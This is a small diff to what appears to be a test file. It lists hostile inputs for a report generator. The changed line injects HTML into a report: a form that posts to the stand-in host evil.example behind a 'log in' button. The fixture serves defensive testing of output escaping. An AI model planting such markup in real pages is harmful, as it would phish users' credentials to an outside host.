@@ -248,7 +248,7 @@ HOSTILE: dict[str, Callable[[Path], Any]] = {
     "report is a folder": replaced(make_result, "report.md", Path.mkdir),
     "report of other bytes": instead(make_result, "report.md", BREAKS * 1000),
     "report is a page": lambda folder: make_result(
-        folder, f'{EVIL}<form action="http://evil.example"><base href="http://evil.example">'
+        folder, f'{EVIL}<form action="http://evil.example/"><button>log in</button></form>'
     ),
     # scores
     "scores of markup": lambda folder: make_scores(folder, EVIL, labels=(EVIL, f"b{EVIL}")),
